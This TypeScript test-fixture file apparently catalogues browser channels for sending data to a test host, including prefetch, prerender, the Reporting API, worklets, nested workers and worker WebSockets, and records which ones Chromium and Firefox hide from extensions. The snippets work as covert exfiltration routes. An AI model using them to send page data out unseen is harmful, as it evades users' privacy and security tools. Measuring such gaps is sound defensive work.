import type { ChannelCase } from '../channel-case.ts';

const served = (path: string): string => `'${path}?to=' + encodeURIComponent(U) + '&e=' + encodeURIComponent(E)`;
const sending = `'fetch("' + U + '/c", { method: "POST", body: "' + E + '" });'`;

const LATER = 'Chromium sends it up to a minute later, by a service of its own that shows its requests to nobody';

/** What acts beyond the document that wrote it: pages nobody sees yet, reports sent later, scripts that draw. */
export const BEYOND: readonly ChannelCase[] = [
  // First of all: Firefox prefetches while no frame of the page is loading, and drops what it had begun.
  { id: 'link-prefetch', what: 'link rel=prefetch', act: `const it = document.createElement('link'); it.rel = 'prefetch'; it.href = U + '/c?e=' + encodeURIComponent(E); const fetched = new Promise(done => { it.onload = it.onerror = done; }); document.head.append(it); await fetched;` },
  { id: 'prerender', what: 'speculation rules, prerender', act: `const it = document.createElement('script'); it.type = 'speculationrules'; it.textContent = JSON.stringify({ prerender: [{ source: 'list', urls: [${served('/sends')}] }] }); document.head.append(it); await pause(800);`, sees: { firefox: 'absent' } },
  { id: 'report-api', what: 'Reporting API, the page’s own', act: `await fetch('https://plain.channels.test:444/c?e=' + encodeURIComponent(E)).catch(() => {}); await pause(100);`, truth: 'late', sees: { chromium: 'gap' }, because: `${LATER}; the command is told what was queued` },
  { id: 'report-frame', what: 'Reporting API, a frame’s', act: `await frame(${served('/reports')}); await pause(100);`, truth: 'late', sees: { chromium: 'gap', command: 'gap' }, because: `${LATER}; of frames the command is told only where to` },
  { id: 'worklet-paint', what: 'PaintWorklet module', act: `await CSS.paintWorklet.addModule(U + '/module.js?e=' + encodeURIComponent(E));`, sees: { firefox: 'absent' } },
  { id: 'worker-module', what: 'module worker, import()', act: `const w = new Worker(URL.createObjectURL(new Blob(['import("' + U + '/module.js?e=' + encodeURIComponent(E) + '").finally(() => postMessage(1))'], { type: 'text/javascript' })), { type: 'module' }); await new Promise(done => { w.onmessage = done; });` },
  { id: 'worker-nested-blob', what: 'worker of a blob: URL in such a worker', act: `const inner = URL.createObjectURL(new Blob([${sending}])); new Worker(URL.createObjectURL(new Blob(['new Worker("' + inner + '")']))); await pause(500);` },
  { id: 'service-socket', what: 'service worker, WebSocket', act: `const r = await service(); r.active.postMessage({ task: 'socket', U, E }); await pause(500);`, sees: { chromium: 'gap', firefox: 'gap' }, placed: 'www.channels.test/service.js', because: 'Firefox shows extensions the handshake alone, Chromium not even that' },
  { id: 'shared-socket', what: 'shared worker, WebSocket', act: `const w = new SharedWorker('/worker.js', 'socket'); w.port.postMessage({ task: 'socket', U, E }); await new Promise(done => { w.port.onmessage = done; });`, sees: { chromium: 'gap', firefox: 'gap' }, placed: 'www.channels.test/worker.js', because: 'Firefox shows extensions the handshake alone, Chromium not even that' },
];
